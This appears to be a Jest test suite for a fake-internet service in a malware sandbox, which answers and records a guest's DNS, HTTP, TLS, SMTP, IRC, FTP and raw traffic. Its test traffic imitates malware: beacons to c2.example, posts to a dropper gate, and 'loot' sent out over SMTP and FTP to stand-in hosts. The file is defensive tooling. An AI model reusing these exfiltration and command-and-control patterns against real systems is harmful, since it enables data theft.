import { afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { type IncomingMessage, request, type RequestOptions } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Duplex } from 'node:stream';
import { buffer, text } from 'node:stream/consumers';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import type { FakenetRecord } from '#domain/artifacts.js';
import { decodeMessage, encodeMessage } from '#formats/dns.js';
import { RESULT_SERVER } from '../userspace/addresses.js';
import { FakeGuest } from '../userspace/guest.fake.js';
import { UserspaceNetwork } from '../userspace/network.js';
import type { Recording } from '../userspace/recording.js';
import { CertificateAuthority } from './ca.js';

let ca: CertificateAuthority;
let folder: string;
let network: UserspaceNetwork;
let guest: FakeGuest;
let recording: Recording;

beforeAll(async () => {
  ca = await CertificateAuthority.create();
});

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'malkoha-fakenet-'));
  network = await UserspaceNetwork.listen({ socketPath: join(folder, 'net.sock'), ca });
  guest = await FakeGuest.connect(network.socketPath);
  recording = await network.open({
    route: 'inetsim',
    pcapPath: join(folder, 'dump.pcap'),
    fakenetPath: join(folder, 'fakenet.jsonl'),
    onResult: (stream) => stream.destroy(),
    resultServer: RESULT_SERVER,
    limits: { fakenet: { ofKind: 40 } },
  });
});

afterEach(async () => {
  guest.kill();
  await network[Symbol.asyncDispose]();
  await rm(folder, { recursive: true, force: true });
});

/** Ends the task and reads what was recorded. */
async function records<K extends FakenetRecord['kind']>(kind: K): Promise<(FakenetRecord & { kind: K })[]> {
  await recording[Symbol.asyncDispose]();
  const lines = (await readFile(join(folder, 'fakenet.jsonl'), 'utf8'))
    .split('\n')
    .filter((line) => line !== '');
  return lines
    .map((line) => JSON.parse(line) as FakenetRecord)
    .filter((record): record is FakenetRecord & { kind: K } => record.kind === kind);
}

async function http(
  stream: Duplex,
  options: RequestOptions,
  body?: string,
): Promise<[IncomingMessage, string]> {
  const sent = request({ createConnection: () => stream, ...options });
  sent.on('error', () => undefined);
  sent.end(body);
  const [response] = (await once(sent, 'response')) as [IncomingMessage];
  return [response, await text(response)];
}

/** Payload of the next UDP datagram that the guest gets. */
function nextDatagram(): Promise<Buffer> {
  return new Promise((resolve) => {
    guest.onFrame = (frame) => {
      if (frame.readUInt16BE(12) === 0x0800 && frame[23] === 17) resolve(frame.subarray(42));
    };
  });
}

async function ask(name: string, type: string): Promise<ReturnType<typeof decodeMessage>> {
  const answer = nextDatagram();
  guest.udp(
    '10.0.2.3',
    53,
    encodeMessage({ id: 7, response: false, rcode: 0, questions: [{ name, type }], answers: [] }),
  );
  return decodeMessage(await answer);
}

/** Talks line by line: each thing said waits for a line that begins with what is expected. */
async function dialogue(stream: Duplex, steps: readonly (readonly [string, string])[]): Promise<string> {
  let heard = '';
  stream.on('data', (chunk: Buffer) => (heard += chunk.toString('latin1')));
  let from = 0;
  for (const [expected, said] of steps) {
    for (let i = 0; !heard.includes(expected, from); i++) {
      if (i === 400) throw new Error(`no ${JSON.stringify(expected)} in ${JSON.stringify(heard)}`);
      await sleep(5);
    }
    from = heard.length;
    if (said !== '') stream.write(said);
  }
  return heard;
}

test('its clocks tell the guest’s time: NTP, and the Date of a page', async () => {
  const ahead = Date.UTC(2031, 2, 4) - Date.now();
  recording.setClock(ahead);
  const reply = nextDatagram();
  guest.udp('198.18.0.1', 123, Buffer.concat([Buffer.from([0x1b]), Buffer.alloc(47)]));
  const seconds = (await reply).readUInt32BE(40) - 2_208_988_800;
  const [response] = await http(await guest.dial('198.18.0.9', 80), { path: '/' });
  const told = [seconds * 1000, Date.parse(response.headers.date ?? '')];
  for (const time of told) expect(Math.abs(time - Date.UTC(2031, 2, 4))).toBeLessThan(60_000);
});

describe('DNS', () => {
  test('a name gets one address of the pool, and the address its name', async () => {
    const first = await ask('Evil.example', 'A');
    const address = first.answers[0]?.data ?? '';
    expect(address).toMatch(/^198\.1[89]\./);
    expect((await ask('evil.example', 'A')).answers[0]?.data).toBe(address);
    expect((await ask('other.example', 'A')).answers[0]?.data).not.toBe(address);
    const back = await ask(`${address.split('.').reverse().join('.')}.in-addr.arpa`, 'PTR');
    expect(back.answers[0]?.data).toBe('evil.example');
  });

  test.each([
    ['AAAA', 0, undefined],
    ['MX', 0, '10 mail.evil.example'],
    ['TXT', 0, 'v=spf1 mx ~all'],
    ['HTTPS', 0, undefined],
    ['TYPE4711', 0, undefined],
  ])('%s is answered with rcode %i and %s', async (type, rcode, data) => {
    const answer = await ask('evil.example', type);
    expect(answer).toMatchObject({ id: 7, response: true, rcode });
    expect(answer.answers[0]?.data).toBe(data);
  });

  test('an address nobody asked for has no name', async () => {
    expect((await ask('1.2.0.192.in-addr.arpa', 'PTR')).rcode).toBe(3);
  });

  test('works over TCP, however it is cut', async () => {
    const query = encodeMessage({
      id: 9,
      response: false,
      rcode: 0,
      questions: [{ name: 'tcp.example', type: 'A' }],
      answers: [],
    });
    const framed = Buffer.concat([Buffer.from([0, query.length]), query]);
    const stream = await guest.dial('8.8.8.8', 53);
    const both = Buffer.concat([framed, framed]);
    for (const byte of both) {
      stream.write(Buffer.from([byte]));
      await sleep(0);
    }
    stream.end();
    const reply = await buffer(stream);
    expect(decodeMessage(reply.subarray(2, 2 + reply.readUInt16BE(0))).answers[0]?.data).toMatch(/^198\./);
    expect(await records('dns')).toHaveLength(2);
  });

  test('more requests than the bound are counted, not written', async () => {
    for (let i = 0; i < 45; i++) await ask(`n${i}.example`, 'A');
    expect(await records('omitted')).toMatchObject([{ count: 5 }]);
  });
});

describe('HTTP', () => {
  test('requests on one connection are answered and recorded, with the name the address came from', async () => {
    const address = (await ask('dropper.example', 'A')).answers[0]?.data ?? '';
    const stream = await guest.dial(address, 8080);
    const post = 'POST /gate.php?id=1 HTTP/1.1\r\nUser-Agent: bot\r\nContent-Length: 5\r\n\r\nhello';
    const chunked = 'POST /up HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n';
    stream.end(`${post}${chunked}HEAD /x.bin HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n`);
    const answer = await text(stream);
    expect(answer.match(/HTTP\/1\.1 200 OK/g)).toHaveLength(3);
    expect(answer.endsWith('\r\n\r\n')).toBe(true);
    expect(await records('http')).toMatchObject([
      {
        method: 'POST',
        host: 'dropper.example',
        uri: '/gate.php?id=1',
        headers: [
          ['User-Agent', 'bot'],
          ['Content-Length', '5'],
        ],
        body: Buffer.from('hello').toString('base64'),
        dst: { ip: address, port: 8080 },
        tls: false,
        status: 200,
      },
      { uri: '/up', host: 'h', body: Buffer.from('abc').toString('base64') },
      { method: 'HEAD', uri: '/x.bin', host: 'h', body: '' },
    ]);
  });

  test.each([
    ['/run.sh', 'curl/8', 'application/x-sh', /^#!\/bin\/sh/],
    ['/bins/x86', 'Wget/1.21', 'application/x-sh', /^#!\/bin\/sh/],
    ['/', 'Mozilla/5.0', 'text/html; charset=utf-8', /^<!DOCTYPE html>/],
    ['/a.json?x=.sh', 'x', 'application/json', /^\{\}/],
  ])('%s for %s is %s', async (path, agent, type, body) => {
    const stream = await guest.dial('198.51.100.1', 80);
    const [response, content] = await http(stream, { path, headers: { 'User-Agent': agent } });
    expect(response.headers['content-type']).toBe(type);
    expect(content).toMatch(body);
  });

  test('what only looks like HTTP is refused and still recorded', async () => {
    const stream = await guest.dial('198.51.100.1', 80);
    stream.end('GET \x00\x01\x02 nonsense\r\n\r\n');
    expect(await text(stream)).toMatch(/^HTTP\/1\.1 400/);
    expect(await records('tcp')).toMatchObject([{ dst: { port: 80 } }]);
  });

  test('a proxy request is tunnelled to more of the fake internet', async () => {
    const stream = await guest.dial('198.51.100.1', 3128);
    await dialogue(stream, [
      ['', 'CONNECT inner.example:80 HTTP/1.1\r\nHost: inner.example:80\r\n\r\n'],
      ['200 Connection established', 'GET /inside HTTP/1.0\r\n\r\n'],
      ['It works!', ''],
    ]);
    const [outer, inner] = await records('http');
    expect(outer).toMatchObject({ method: 'CONNECT', uri: 'inner.example:80' });
    expect(inner).toMatchObject({ uri: '/inside', host: 'inner.example', dst: { port: 80 } });
  });
});

describe('TLS', () => {
  async function secure(stream: Duplex, servername: string, alpn: string[] = []): Promise<TLSSocket> {
    const socket = connect({ socket: stream, servername, ca: ca.certificate, ALPNProtocols: alpn });
    await once(socket, 'secureConnect');
    return socket;
  }

  test('the server has a certificate for the name asked, and speaks HTTP inside', async () => {
    const socket = await secure(await guest.dial('198.51.100.1', 443), 'c2.example', ['h2', 'http/1.1']);
    expect(socket.authorized).toBe(true);
    expect(socket.alpnProtocol).toBe('http/1.1');
    const [response] = await http(socket, { path: '/beacon', headers: { Host: 'c2.example' } });
    expect(response.statusCode).toBe(200);
    const [request] = await records('http');
    expect(request).toMatchObject({ tls: true, host: 'c2.example', uri: '/beacon', dst: { port: 443 } });
  });

  test('the name asked is recorded', async () => {
    const socket = await secure(await guest.dial('198.51.100.1', 9443), 'c2.example');
    socket.destroy();
    expect(await records('tls')).toMatchObject([{ sni: 'c2.example', dst: { port: 9443 } }]);
  });

  test('an unknown protocol inside is kept', async () => {
    const socket = await secure(await guest.dial('198.51.100.1', 443), 'c2.example');
    socket.end('\x01\x02binary');
    await once(socket.resume(), 'close');
    await sleep(20);
    expect(await records('tcp')).toMatchObject([
      {
        service: 'unknown',
        host: 'c2.example',
        data: Buffer.from('\x01\x02binary').toString('base64'),
        bytes: 8,
      },
    ]);
  });
});

describe('servers that speak first', () => {
  test('SMTP takes a login and a message', async () => {
    const stream = await guest.dial('198.51.100.1', 25);
    await dialogue(stream, [
      ['220 ', 'EHLO me\r\n'],
      ['250 8BITMIME', 'AUTH LOGIN\r\n'],
      ['334 VXNlcm5hbWU6', 'Ym90\r\n'],
      ['334 UGFzc3dvcmQ6', 'c2VjcmV0\r\n'],
      ['235 ', 'MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n'],
      ['354 ', 'Subject: loot\r\n\r\npasswords\r\n.\r\n'],
      ['queued', 'QUIT\r\n'],
      ['221 ', ''],
    ]);
    const [record] = await records('tcp');
    expect(record).toMatchObject({ service: 'smtp', dst: { port: 25 } });
    expect(Buffer.from(record?.data ?? '', 'base64').toString()).toContain('passwords');
  });

  test('SMTP goes on over STARTTLS', async () => {
    const stream = await guest.dial('198.51.100.1', 587);
    await dialogue(stream, [
      ['220 ', 'EHLO me\r\n'],
      ['250-STARTTLS', 'STARTTLS\r\n'],
      ['220 2.0.0', ''],
    ]);
    stream.removeAllListeners('data');
    const socket = connect({ socket: stream, servername: 'mail.example', ca: ca.certificate });
    socket.on('error', () => undefined);
    await once(socket, 'secureConnect');
    await dialogue(socket, [
      ['', 'EHLO me\r\n'],
      ['250 8BITMIME', 'QUIT\r\n'],
      ['221', ''],
    ]);
    expect(await records('tls')).toMatchObject([{ sni: 'mail.example' }]);
  });

  test('IRC welcomes whoever says a nick, on any port', async () => {
    const stream = await guest.dial('198.51.100.1', 1234);
    const heard = await dialogue(stream, [
      ['', 'NICK bot42\r\nUSER a 0 * :b\r\n'],
      [' 001 bot42 ', 'PING :x\r\n'],
      ['PONG', 'JOIN #owned\r\n'],
      ['366 bot42 #owned', 'QUIT\r\n'],
      ['ERROR', ''],
    ]);
    expect(heard).toContain('JOIN #owned');
    expect(await records('tcp')).toMatchObject([{ service: 'irc', dst: { port: 1234 } }]);
  });

  test('FTP stores and lists over passive connections', async () => {
    const control = await guest.dial('198.51.100.1', 21);
    await dialogue(control, [
      ['220 ', 'USER anonymous\r\n'],
      ['331', 'PASS x\r\n'],
      ['230', ''],
    ]);
    let said = '';
    control.on('data', (chunk: Buffer) => (said += String(chunk)));
    const passive = async (): Promise<Duplex> => {
      said = '';
      control.write('EPSV\r\n');
      while (!/\|(\d+)\|/.test(said)) await sleep(5);
      return guest.dial('198.51.100.1', Number(/\|(\d+)\|/.exec(said)?.[1]));
    };
    const listing = await passive();
    control.write('LIST\r\n');
    expect(await text(listing)).toContain('readme.txt');
    const upload = await passive();
    control.write('STOR loot.zip\r\n');
    upload.end('stolen');
    while (!said.includes('226')) await sleep(5);
    control.end('QUIT\r\n');
    const kept = await records('tcp');
    expect(kept.map((record) => record.service).sort()).toEqual(['ftp', 'ftp-data']);
    expect(kept.find((record) => record.service === 'ftp-data')?.bytes).toBe(6);
  });
});

describe('anything else', () => {
  test('a connection is taken, kept and held', async () => {
    const stream = await guest.dial('203.0.113.9', 4444);
    stream.write(Buffer.alloc(6000, 'A'));
    await sleep(20);
    stream.end();
    await once(stream.resume(), 'end');
    const [record] = await records('tcp');
    expect(record).toMatchObject({ service: 'unknown', dst: { ip: '203.0.113.9', port: 4444 }, bytes: 6000 });
    expect(Buffer.from(record?.data ?? '', 'base64')).toHaveLength(4096);
  });

  test('datagrams are kept, one record per flow', async () => {
    guest.udp('203.0.113.9', 9999, Buffer.from('ab'));
    guest.udp('203.0.113.9', 9999, Buffer.from('cd'));
    guest.udp('203.0.113.9', 9998, Buffer.from('ef'));
    await sleep(50);
    expect(await records('udp')).toMatchObject([
      { dst: { ip: '203.0.113.9', port: 9999 }, data: Buffer.from('abcd').toString('base64'), bytes: 4 },
      { dst: { port: 9998 }, bytes: 2 },
    ]);
  });

  test('what is still open when the task ends is recorded, too', async () => {
    const stream = await guest.dial('203.0.113.9', 4444);
    stream.write('held');
    await sleep(400);
    expect(await records('tcp')).toMatchObject([{ bytes: 4 }]);
  });
});
